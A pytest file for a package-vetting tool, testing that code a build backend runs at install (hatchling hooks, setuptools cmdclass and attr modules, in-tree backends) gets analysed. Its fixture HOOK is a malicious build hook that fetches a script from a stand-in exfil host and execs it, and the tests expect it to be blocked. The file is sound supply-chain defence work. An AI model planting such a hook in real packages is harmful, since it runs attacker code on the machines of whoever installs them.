"""Attack on vet's reading of an sdist: the package's own code that its build backend runs at
install, named in pyproject.toml, was read as a test nobody loads.

pip builds an sdist at install, and the build backend runs code of the sdist that
pyproject.toml names: hatchling a custom build or metadata hook (``path``, by default
``hatch_build.py``), setuptools a ``cmdclass`` command and, for a ``dynamic`` field's ``attr``
that is not a plain literal, the module it names (imported). vet followed only console
scripts; a hook or command module placed in ``tests/`` or ``docs/`` was read as a fixture
nobody loads (information), so an sdist whose build hook fetched and ran a script was vetted
``pass``, on first look and against the release before. The files and modules these settings
name are now code that runs.
"""

from __future__ import annotations

import gzip
import io
import tarfile
from pathlib import Path

import pytest

from mcpward.vet import VetOptions, run_vet
from vet_fixtures import vetted_both_ways

PROJECT = '[build-system]\nrequires = ["{backend}"]\nbuild-backend = "{backend}.build"\n[project]\nname = "relay-mcp"\ndynamic = ["version"]\n'
HOOK = (
    "import urllib.request\n\n"
    "class Hook:\n"
    "    def initialize(self, version, build_data):\n"
    '        exec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())\n'
)
HARMLESS = (
    "class Hook:\n    def initialize(self, version, build_data):\n        build_data['pure_python'] = True\n"
)


def sdist(path: Path, version: str, files: dict[str, str]) -> Path:
    files = {
        "PKG-INFO": f"Metadata-Version: 2.1\nName: relay-mcp\nVersion: {version}\n\n",
        "relay_mcp/__init__.py": "X = 1\n",
        **files,
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"relay_mcp-{version}/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    path.write_bytes(gzip.compress(buffer.getvalue()))
    return path


@pytest.mark.parametrize(
    "settings,module",
    [
        ('[tool.hatch.build.hooks.custom]\npath = "tests/build.py"\n', "tests/build.py"),
        ('[tool.hatch.build.targets.wheel.hooks.custom]\npath = "docs/hook.py"\n', "docs/hook.py"),
        ('[tool.hatch.metadata.hooks.custom]\npath = "examples/meta.py"\n', "examples/meta.py"),
        ('[tool.setuptools.cmdclass]\nbuild_py = "tests.build.Hook"\n', "tests/build.py"),
        ('[tool.setuptools.dynamic]\nversion = {attr = "docs.version.VERSION"}\n', "docs/version.py"),
    ],
    ids=[
        "hatch build hook",
        "hatch target hook",
        "hatch metadata hook",
        "setuptools cmdclass",
        "setuptools attr",
    ],
)
def test_code_the_build_backend_runs_is_analysed(tmp_path: Path, settings: str, module: str) -> None:
    backend = "setuptools" if "setuptools" in settings else "hatchling"
    pyproject = PROJECT.format(backend=backend) + settings
    old = sdist(tmp_path / "relay_mcp-1.0.0.tar.gz", "1.0.0", {"pyproject.toml": pyproject, module: HARMLESS})
    new = sdist(tmp_path / "relay_mcp-1.0.1.tar.gz", "1.0.1", {"pyproject.toml": pyproject, module: HOOK})
    for report in vetted_both_ways(new, old, tmp_path / "c"):
        findings = {(f.rule, f.severity.value) for f in report.findings}
        assert ("download-and-run", "critical") in findings, findings
        assert report.verdict == "block"


def test_a_harmless_hook_passes(tmp_path: Path) -> None:
    pyproject = (
        PROJECT.format(backend="hatchling") + '[tool.hatch.build.hooks.custom]\npath = "tests/build.py"\n'
    )
    old = sdist(
        tmp_path / "relay_mcp-1.0.0.tar.gz",
        "1.0.0",
        {"pyproject.toml": pyproject, "tests/build.py": HARMLESS},
    )
    new = sdist(
        tmp_path / "relay_mcp-1.0.1.tar.gz",
        "1.0.1",
        {"pyproject.toml": pyproject, "tests/build.py": HARMLESS},
    )
    report = run_vet(VetOptions(target=str(new), baseline=str(old), cache_dir=tmp_path / "c"))
    assert report.verdict == "pass", [(f.rule, f.message) for f in report.findings]


@pytest.mark.parametrize("folder", ["docs", "tests/build"])
def test_an_in_tree_build_backend_is_analysed(tmp_path: Path, folder: str) -> None:
    """``backend-path`` puts the sdist's own folder first on the backend's import path: pip
    imports the backend from there and runs it at install. Its module in ``docs/`` was read
    as a fixture nobody loads, and against the release before the sdist passed."""
    pyproject = f'[build-system]\nrequires = []\nbuild-backend = "relay_backend.api:Backend"\nbackend-path = ["{folder}"]\n'
    module = f"{folder}/relay_backend/api.py"
    init = f"{folder}/relay_backend/__init__.py"
    old = sdist(
        tmp_path / "relay_mcp-1.0.0.tar.gz",
        "1.0.0",
        {"pyproject.toml": pyproject, init: "", module: HARMLESS},
    )
    new = sdist(
        tmp_path / "relay_mcp-1.0.1.tar.gz", "1.0.1", {"pyproject.toml": pyproject, init: "", module: HOOK}
    )
    for report in vetted_both_ways(new, old, tmp_path / "c"):
        findings = {(f.rule, f.severity.value) for f in report.findings}
        assert ("download-and-run", "critical") in findings, findings
